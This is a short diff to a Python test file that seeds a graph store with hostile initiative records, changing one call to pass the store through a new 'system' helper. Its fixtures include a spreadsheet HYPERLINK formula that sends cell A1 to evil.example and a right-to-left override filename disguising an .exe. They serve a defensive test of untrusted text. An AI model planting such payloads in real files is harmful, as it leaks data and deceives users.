@@ -22,6 +22,7 @@ from schema.models import Topic, WorkingGroup
 from schema.records import InitiativeRecord
 from schema.text import cell_text, visible
 from tests import factories as f
+from tests.support.units import system
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 BIDI = "Invoice \u202egnp.exe"
@@ -35,7 +36,7 @@ def hostile(store: GraphStore) -> GraphStore:
         record = {"id": id, "title": title, "language": "en", "working_groups": ["wg6"],
                   "topics": ["sbom"]}  # fmt: skip
         curation.create_initiative(
-            store, InitiativeRecord.model_validate(record), now=datetime.now(UTC)
+            system(store), InitiativeRecord.model_validate(record), now=datetime.now(UTC)
         )
     return store
 
